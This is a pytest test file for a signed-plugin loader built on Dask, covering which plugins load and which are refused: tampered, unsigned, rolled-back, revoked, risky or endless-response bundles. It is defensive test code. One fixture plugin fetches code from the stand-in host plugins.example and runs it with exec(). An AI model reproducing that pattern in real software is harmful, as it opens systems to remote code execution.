"""Signed plugins: what is loaded into real schedulers, workers and nannies, and what is refused while they go on."""

from __future__ import annotations

import asyncio
import contextlib
import pickle
import socket
import sqlite3
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import dask
import pytest
from distributed import Client, LocalCluster

import pilothouse
import pilothouse._plugins as plugins_module
from processes import HubProcess, NannyProcess, SchedulerProcess, WorkerProcess, eventually
from publisher import NANNY_PLUGIN, SCHEDULER_PLUGIN, WORKER_PLUGIN, Publisher, with_audit

NAME = "night-guard"


@pytest.fixture
def plugin_hub(start, tmp_path) -> HubProcess:
    """One that no other test publishes to."""
    process: HubProcess = start(HubProcess, tmp_path / "plugin-hub")
    return process


@pytest.fixture
def publisher(plugin_hub, tmp_path) -> Publisher:
    return Publisher(tmp_path / "publisher", plugin_hub.address, plugin_hub.token)


@pytest.fixture
def host(tmp_path, monkeypatch) -> Path:
    """A state directory as of another machine: it has seen no version yet."""
    home = tmp_path / "host"
    monkeypatch.setenv("XDG_STATE_HOME", str(home))
    return home


def policy(*keys: str, name: str = NAME, **more: Any) -> dict[str, Any]:
    return {"name": name, "keys": list(keys), **more}


def settings(hub: HubProcess, *policies: dict[str, Any], **trust: Any) -> Any:
    return dask.config.set(
        {
            "pilothouse.address": hub.address,
            "pilothouse.token": hub.token,
            "pilothouse.flush-interval": "100ms",
            "pilothouse.plugins": list(policies),
            **{f"pilothouse.trust.{key}": value for key, value in trust.items()},
        }
    )


@contextlib.contextmanager
def local_cluster() -> Iterator[Client]:
    with (
        LocalCluster(n_workers=1, threads_per_worker=1, processes=False, dashboard_address=None) as cluster,
        Client(cluster) as client,
    ):
        yield client


def outcome_of(hub: HubProcess, *policies: dict[str, Any], **trust: Any) -> Any:
    """What became of the one plugin in a new cluster, which still works; as registered and as listed by the hub."""
    with settings(hub, *policies, **trust), local_cluster() as client:
        registration = pilothouse.register(client)
        assert client.submit(sum, [1, 2]).result(timeout=30) == 3
        (outcome,) = registration.plugins
        with pilothouse.Hub(hub.address, hub.token) as asked:
            (listed,) = eventually(lambda: asked.get_cluster(registration.cluster_id).plugins)
    for field in ("name", "state", "version", "sha256", "signed_by", "code", "reason"):
        assert listed[field] == getattr(outcome, field), field
    return outcome


def refusal(hub: HubProcess, *policies: dict[str, Any], **trust: Any) -> str:
    outcome = outcome_of(hub, *policies, **trust)
    assert outcome.state == "refused"
    assert outcome.reason
    return str(outcome.code)


# --- what is loaded ----------------------------------------------------------------------------------------------------


def test_nothing_is_loaded_unless_asked_for(plugin_hub, publisher, host):
    publisher.key("ada")
    publisher.offer(SCHEDULER_PLUGIN, "guard:Guard")
    with settings(plugin_hub), local_cluster() as client:
        registration = pilothouse.register(client)
        assert registration.plugins == ()
        assert client.run_on_scheduler(lambda dask_scheduler: hasattr(dask_scheduler, "guard_says")) is False


def test_a_scheduler_plugin_through_register(plugin_hub, publisher, host):
    ada = publisher.key("ada")
    publisher.offer(SCHEDULER_PLUGIN, "guard:Guard")
    with settings(plugin_hub, policy(ada)), local_cluster() as client:
        registration = pilothouse.register(client, plugins=[NAME])
        (outcome,) = registration.plugins
        assert (outcome.state, outcome.version, outcome.kind, outcome.signed_by) == (
            "loaded",
            "1.0",
            "scheduler",
            [ada],
        )
        assert f"plugin {NAME} 1.0" in str(registration)
        says = client.run_on_scheduler(lambda dask_scheduler: dask_scheduler.guard_says)
        assert says == "all is well"
        # Once is enough.
        assert pilothouse.register(client).plugins == registration.plugins
        names = client.run_on_scheduler(lambda dask_scheduler: list(dask_scheduler.plugins))
        assert names.count(f"pilothouse-plugin-{NAME}") == 1
        with pilothouse.Hub(plugin_hub.address, plugin_hub.token) as hub:
            (listed,) = eventually(lambda: hub.get_cluster(registration.cluster_id).plugins)
        assert (listed.version, listed.sha256, listed.signed_by) == (outcome.version, outcome.sha256, [ada])


def test_register_chooses_among_what_is_configured(plugin_hub, publisher, host):
    ada = publisher.key("ada")
    publisher.offer(SCHEDULER_PLUGIN, "guard:Guard")
    with settings(plugin_hub, policy(ada)), local_cluster() as client:
        with pytest.raises(pilothouse.ConfigError, match=r"does not name 'other'"):
            pilothouse.register(client, plugins=["other"])
        with pytest.raises(TypeError, match="a list of names"):
            pilothouse.register(client, plugins=NAME)
        assert pilothouse.register(client, plugins=[]).plugins == ()
        assert pilothouse.register(client).plugins[0].state == "loaded"


def test_a_preloaded_scheduler_loads_what_its_own_configuration_names(
    plugin_hub, publisher, host, start, tmp_path
):
    ada = publisher.key("ada")
    publisher.offer(SCHEDULER_PLUGIN, "guard:Guard")
    environment = plugin_hub.environment(DASK_PILOTHOUSE__PLUGINS=str([policy(ada)]))
    scheduler = start(SchedulerProcess, tmp_path, environment)
    with Client(scheduler.address) as client:
        says = client.run_on_scheduler(lambda dask_scheduler: getattr(dask_scheduler, "guard_says", None))
    assert says == "all is well", scheduler.output()
    with pilothouse.Hub(plugin_hub.address, plugin_hub.token) as hub:
        (listed,) = eventually(lambda: hub.list_clusters()[0].plugins)
    assert listed.state == "loaded"


def test_a_worker_plugin_reaches_workers_that_are_there_and_that_come(
    plugin_hub, publisher, host, start, tmp_path
):
    ada = publisher.key("ada")
    publisher.offer(WORKER_PLUGIN, "lamp:Lamp", "worker")
    scheduler = start(SchedulerProcess, tmp_path, plugin_hub.environment())
    start(WorkerProcess, tmp_path, scheduler.address)
    with settings(plugin_hub, policy(ada)), Client(scheduler.address) as client:
        client.wait_for_workers(1, timeout=60)
        (outcome,) = pilothouse.register(client).plugins
        assert (outcome.state, outcome.kind) == ("loaded", "worker"), outcome
        late = start(WorkerProcess, tmp_path, scheduler.address)
        client.wait_for_workers(2, timeout=60)
        lamps = client.run(lambda dask_worker: getattr(dask_worker, "lamp", None))
        assert set(lamps.values()) == {"lit"}, late.output()


def test_a_nanny_plugin(plugin_hub, publisher, host, start, tmp_path):
    ada = publisher.key("ada")
    publisher.offer(NANNY_PLUGIN, "nurse:Nurse", "nanny")
    scheduler = start(SchedulerProcess, tmp_path, plugin_hub.environment())
    start(NannyProcess, tmp_path, scheduler.address)
    with settings(plugin_hub, policy(ada)), Client(scheduler.address) as client:
        client.wait_for_workers(1, timeout=60)
        (outcome,) = pilothouse.register(client).plugins
        assert outcome.state == "loaded", outcome
        nurses = client.run(lambda dask_worker: getattr(dask_worker, "nurse", None), nanny=True)
        assert set(nurses.values()) == {"here"}


def test_a_worker_verifies_again(plugin_hub, publisher, host, start, tmp_path):
    """The host of a worker may have seen a newer version: then that worker goes on without, and says so."""
    ada = publisher.key("ada")
    publisher.offer(WORKER_PLUGIN, "lamp:Lamp", "worker", version="2.0")
    assert outcome_of(plugin_hub, policy(ada)).state == "loaded"  # this host has seen 2.0
    with sqlite3.connect(plugin_hub.state_dir / "hub.db") as database:
        database.execute("DELETE FROM bundles")
    publisher.offer(WORKER_PLUGIN, "lamp:Lamp", "worker", version="1.0")
    other = {"XDG_STATE_HOME": str(tmp_path / "other-host")}
    scheduler = start(SchedulerProcess, tmp_path, {**plugin_hub.environment(), **other})
    worker = start(WorkerProcess, tmp_path, scheduler.address)
    with settings(plugin_hub, policy(ada)), Client(scheduler.address) as client:
        client.wait_for_workers(1, timeout=60)
        assert pilothouse.register(client).plugins[0].state == "loaded"
        assert client.submit(sum, [1, 2]).result(timeout=30) == 3
        assert set(client.run(lambda dask_worker: hasattr(dask_worker, "lamp")).values()) == {False}
    assert "goes on without plugin night-guard" in eventually(worker.output)


def test_two_signatures_when_two_are_wanted(plugin_hub, publisher, host):
    ada, bob = publisher.key("ada"), publisher.key("bob")
    bundle = publisher.sign(publisher.pack(SCHEDULER_PLUGIN, "guard:Guard"))
    publisher.publish(bundle)
    assert refusal(plugin_hub, policy(ada, bob, threshold=2)) == "below_threshold"
    publisher.publish(publisher.sign(bundle, "bob"))
    outcome = outcome_of(plugin_hub, policy(ada, bob, threshold=2))
    assert outcome.state == "loaded"
    assert set(outcome.signed_by) == {ada, bob}


# --- what is refused, while the cluster goes on ------------------------------------------------------------------------


def tamper(hub: HubProcess, sql: str, *values: Any) -> None:
    """As whoever owns the hub's machine could."""
    with sqlite3.connect(hub.state_dir / "hub.db") as database:
        database.execute(sql, values)


def test_a_hub_that_changes_a_bundle(plugin_hub, publisher, host):
    ada = publisher.key("ada")
    bundle = publisher.offer(SCHEDULER_PLUGIN, "guard:Guard").read_bytes()
    evil = bundle.replace(b"all is well", b"all is evil")
    assert evil != bundle
    tamper(plugin_hub, "UPDATE bundles SET bytes = ?", evil)
    assert refusal(plugin_hub, policy(ada)) == "bad_signature"


def test_a_hub_that_signs_itself(plugin_hub, publisher, host):
    ada = publisher.key("ada")
    publisher.key("mallory")
    publisher.offer(SCHEDULER_PLUGIN, "guard:Guard", by="mallory")
    assert refusal(plugin_hub, policy(ada)) == "unknown_key"


def test_a_hub_that_takes_the_signatures_away(plugin_hub, publisher, host):
    ada = publisher.key("ada")
    unsigned = publisher.pack(SCHEDULER_PLUGIN, "guard:Guard").read_bytes()
    publisher.offer(SCHEDULER_PLUGIN, "guard:Guard")
    tamper(plugin_hub, "UPDATE bundles SET bytes = ?", unsigned)
    assert refusal(plugin_hub, policy(ada)) == "no_signature"


def test_a_hub_that_offers_an_older_version(plugin_hub, publisher, host):
    ada = publisher.key("ada")
    publisher.offer(SCHEDULER_PLUGIN, "guard:Guard", version="1.0")
    publisher.offer(SCHEDULER_PLUGIN, "guard:Guard", version="1.1")
    assert outcome_of(plugin_hub, policy(ada)).version == "1.1"
    tamper(plugin_hub, "DELETE FROM bundles WHERE version = '1.1'")
    assert refusal(plugin_hub, policy(ada)) == "rollback"


def test_a_version_below_the_least(plugin_hub, publisher, host):
    ada = publisher.key("ada")
    publisher.offer(SCHEDULER_PLUGIN, "guard:Guard", version="1.0")
    least = {"least-version": "1.0.1"}
    assert refusal(plugin_hub, policy(ada, **least)) == "below_least_version"


def test_a_hub_that_offers_another_plugin_under_the_name(plugin_hub, publisher, host):
    ada = publisher.key("ada")
    other = publisher.offer(SCHEDULER_PLUGIN, "guard:Guard", name="day-guard").read_bytes()
    publisher.offer(SCHEDULER_PLUGIN, "guard:Guard")
    tamper(plugin_hub, "UPDATE bundles SET bytes = ? WHERE name = ?", other, NAME)
    assert refusal(plugin_hub, policy(ada)) == "wrong_name"


def test_a_hub_that_offers_a_look_alike(plugin_hub, publisher, host):
    ada = publisher.key("ada")
    alike = publisher.offer(SCHEDULER_PLUGIN, "guard:Guard", name="nightguard").read_bytes()
    tamper(plugin_hub, "UPDATE bundles SET name = ?, bytes = ?", NAME, alike)
    assert refusal(plugin_hub, policy(ada)) == "look_alike"


def test_an_expired_bundle(plugin_hub, publisher, host):
    ada = publisher.key("ada")
    publisher.offer(SCHEDULER_PLUGIN, "guard:Guard", expires="1s")
    assert eventually(lambda: refusal(plugin_hub, policy(ada)) == "expired")


@pytest.mark.parametrize(("option", "value"), [("python", "<3.9"), ("distributed", "<2022.12")])
def test_a_bundle_for_other_versions(plugin_hub, publisher, host, option, value):
    ada = publisher.key("ada")
    publisher.offer(SCHEDULER_PLUGIN, "guard:Guard", **{option: value})
    assert refusal(plugin_hub, policy(ada)) == "incompatible"


def test_a_bundle_over_the_limit(plugin_hub, publisher, host):
    ada = publisher.key("ada")
    large = {**SCHEDULER_PLUGIN, "filler.py": "#" * 20_000}
    publisher.offer(large, "guard:Guard")
    assert refusal(plugin_hub, policy(ada), **{"max-bytes": "10 KiB"}) == "too_large"


@pytest.mark.parametrize(
    ("source", "code"),
    [
        (
            "from distributed.diagnostics.plugin import SchedulerPlugin\nGuard = SchedulerPlugin\n",
            "bad_entry",
        ),
        ("class Guard:\n    pass\n", "bad_entry"),
        ("Guard = 1\n", "bad_entry"),
        ("", "bad_entry"),
        ("raise OSError('no disk')\n", "failed"),
        ("class Guard(\n", "failed"),
        ("raise SystemExit\n", "failed"),
    ],
)
def test_a_bundle_whose_entry_is_not_what_it_says(plugin_hub, publisher, host, source, code):
    ada = publisher.key("ada")
    publisher.offer({"guard.py": source}, "guard:Guard")
    assert refusal(plugin_hub, policy(ada)) == code


RISKY_PLUGIN = {
    "guard.py": """
import urllib3
from distributed.diagnostics.plugin import SchedulerPlugin

class Guard(SchedulerPlugin):
    def update(self):
        answer = urllib3.PoolManager().request("GET", "https://plugins.example/guard.py")
        exec(answer.data)
""",
}


def test_a_signed_bundle_that_is_too_risky(plugin_hub, publisher, host):
    ada = publisher.key("ada")
    publisher.offer(SCHEDULER_PLUGIN, "guard:Guard", version="1.0")
    assert outcome_of(plugin_hub, policy(ada), **{"max-risk": 0.7}).state == "loaded"
    publisher.offer(RISKY_PLUGIN, "guard:Guard", version="1.1")
    assert refusal(plugin_hub, policy(ada), **{"max-risk": 0.7}) == "too_risky"
    assert outcome_of(plugin_hub, policy(ada)).version == "1.1"


def test_a_preloaded_scheduler_goes_on_without_what_is_too_risky(
    plugin_hub, publisher, host, start, tmp_path
):
    ada = publisher.key("ada")
    publisher.offer(RISKY_PLUGIN, "guard:Guard", name="day-guard")
    publisher.offer(SCHEDULER_PLUGIN, "guard:Guard")
    policies = [policy(ada, name="day-guard"), policy(ada)]
    environment = plugin_hub.environment(
        DASK_PILOTHOUSE__PLUGINS=str(policies), DASK_PILOTHOUSE__TRUST__MAX_RISK="0.7"
    )
    scheduler = start(SchedulerProcess, tmp_path, environment)
    with Client(scheduler.address) as client:
        says = client.run_on_scheduler(lambda dask_scheduler: getattr(dask_scheduler, "guard_says", None))
    assert says == "all is well", scheduler.output()
    with pilothouse.Hub(plugin_hub.address, plugin_hub.token) as hub:
        listed = eventually(lambda: {p.name: p.code for p in hub.list_clusters()[0].plugins})
    assert listed == {"day-guard": "too_risky", NAME: None}


def test_an_audit_that_says_something_else(plugin_hub, publisher, host):
    """Whoever signs could write any number beside the hash of the rules: the host finds out."""
    ada = publisher.key("ada")
    bundle = publisher.sign(publisher.pack(SCHEDULER_PLUGIN, "guard:Guard"))
    lie = with_audit(bundle.read_bytes(), publisher.private_key("ada"), sha256=64 * "0")
    bundle.write_bytes(lie)
    publisher.publish(bundle)
    assert refusal(plugin_hub, policy(ada), **{"max-risk": 0.7}) == "audit_mismatch"
    assert outcome_of(plugin_hub, policy(ada)).state == "loaded"


def test_a_worker_audits_again(publisher, host):
    ada = publisher.key("ada")
    bundle = publisher.sign(publisher.pack(RISKY_PLUGIN, "guard:Guard", "worker")).read_bytes()
    wanted = plugins_module.PluginPolicy(NAME, (ada,), 1, None, (), 2**20, 0.7)
    parcel = plugins_module._on_worker.Parcel(bundle, wanted, [], "worker")
    plugin = pickle.loads(pickle.dumps(parcel))
    assert type(plugin).__name__ == "RefusedPlugin"
    assert "its risk is" in type(plugin).__doc__


def test_a_plugin_whose_start_fails(plugin_hub, publisher, host):
    ada = publisher.key("ada")
    failing = SCHEDULER_PLUGIN["guard.py"].replace("scheduler.guard_says = GREETING", "1 / 0")
    publisher.offer({**SCHEDULER_PLUGIN, "guard.py": failing}, "guard:Guard")
    assert refusal(plugin_hub, policy(ada)) == "failed"


def test_a_revoked_key(plugin_hub, publisher, host):
    ada, bob = publisher.key("ada"), publisher.key("bob")
    publisher.sign(bundle := publisher.sign(publisher.pack(SCHEDULER_PLUGIN, "guard:Guard")), "bob")
    publisher.publish(bundle)
    assert refusal(plugin_hub, policy(ada), revoked=[ada]) == "revoked_key"
    assert outcome_of(plugin_hub, policy(ada)).state == "loaded"
    publisher.revoke("ada")
    assert refusal(plugin_hub, policy(ada)) == "revoked_key"
    # A hub that hides it later is not believed.
    tamper(plugin_hub, "DELETE FROM revocations")
    assert refusal(plugin_hub, policy(ada)) == "revoked_key"
    assert outcome_of(plugin_hub, policy(ada, bob)).signed_by == [bob]


def test_a_withdrawn_bundle(plugin_hub, publisher, host):
    ada = publisher.key("ada")
    bundle = publisher.offer(SCHEDULER_PLUGIN, "guard:Guard")
    publisher.revoke("ada", "--bundle", bundle)
    assert refusal(plugin_hub, policy(ada)) == "withdrawn"
    publisher.offer(SCHEDULER_PLUGIN, "guard:Guard", version="1.1")
    assert outcome_of(plugin_hub, policy(ada)).version == "1.1"


def test_what_the_hub_does_not_offer(plugin_hub, publisher, host):
    assert refusal(plugin_hub, policy(publisher.key("ada"))) == "not_offered"


def test_a_token_that_may_not_fetch(plugin_hub, publisher, host):
    ada = publisher.key("ada")
    publisher.offer(SCHEDULER_PLUGIN, "guard:Guard")
    with (
        settings(plugin_hub, policy(ada)),
        local_cluster() as client,
        dask.config.set({"pilothouse.token": "ph_wrong"}),
    ):
        (outcome,) = pilothouse.register(client).plugins
    assert (outcome.state, outcome.code) == ("refused", "unreachable")


def test_a_hub_that_comes_back(plugin_hub, publisher, host, start, tmp_path, monkeypatch):
    monkeypatch.setattr(plugins_module, "_AGAIN_SECONDS", 0.2)
    ada = publisher.key("ada")
    publisher.offer(SCHEDULER_PLUGIN, "guard:Guard")
    port = plugin_hub.port
    plugin_hub.stop()
    with settings(plugin_hub, policy(ada)), local_cluster() as client:
        assert pilothouse.register(client).plugins[0].code == "unreachable"
        start(HubProcess, plugin_hub.state_dir, port)
        assert eventually(
            lambda: client.run_on_scheduler(
                lambda dask_scheduler: getattr(dask_scheduler, "guard_says", None)
            )
        )
        with pilothouse.Hub(plugin_hub.address, plugin_hub.token) as hub:
            assert eventually(lambda: hub.list_clusters()[0].plugins[0].state == "loaded")


class EndlessHub:
    """Answers every request with a head and then bytes, as many as one takes, or one now and then."""

    def __init__(self, head: bytes, piece: bytes, pause: float):
        self._reply = (head, piece, pause)
        self._over = threading.Event()
        self.sent = 0
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.address = f"http://127.0.0.1:{self._listener.getsockname()[1]}"
        self._thread = threading.Thread(target=self._serve)
        self._thread.start()

    def _serve(self) -> None:
        self._listener.settimeout(0.1)
        while not self._over.is_set():
            with contextlib.suppress(OSError):
                peer, _ = self._listener.accept()
                with peer:
                    self._answer(peer)

    def _answer(self, peer: socket.socket) -> None:
        head, piece, pause = self._reply
        peer.settimeout(5)
        peer.recv(65536)
        peer.sendall(head)
        while not self._over.wait(pause):
            peer.sendall(piece)
            self.sent += len(piece)

    def close(self) -> None:
        self._over.set()
        self._thread.join(10)
        self._listener.close()


@pytest.mark.parametrize(
    ("head", "piece", "pause"),
    [
        (b"HTTP/1.1 200 OK\r\n\r\n", b"x" * 65536, 0.0),
        (b"HTTP/1.1 200 OK\r\n\r\n", b"x", 0.05),
        (b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\n\r\n", b"x" * 65536, 0.0),
        (b"HTTP/1.1 302 Found\r\nLocation: http://127.0.0.1:9/\r\nContent-Length: 0\r\n\r\n", b"", 0.05),
        (b"HTTP/1.1 200 OK\r\nX: ", b"x" * 1024, 0.001),
    ],
)
def test_a_hub_that_never_ends_its_answer(head, piece, pause):
    endless = EndlessHub(head, piece, pause)
    try:
        where = plugins_module.HubLocation(endless.address, "ph_token", None)
        wanted = plugins_module.PluginPolicy(NAME, ("ed25519:" + 43 * "A",), 1, None, (), 2**20)
        began = time.monotonic()
        with pytest.raises(plugins_module.Refused) as refused:
            asyncio.run(plugins_module.fetch(where, wanted, 2.0))
        assert refused.value.code in ("unreachable", "malformed", "not_offered")
        assert time.monotonic() - began < 10
        assert endless.sent < 64 * 2**20
    finally:
        endless.close()
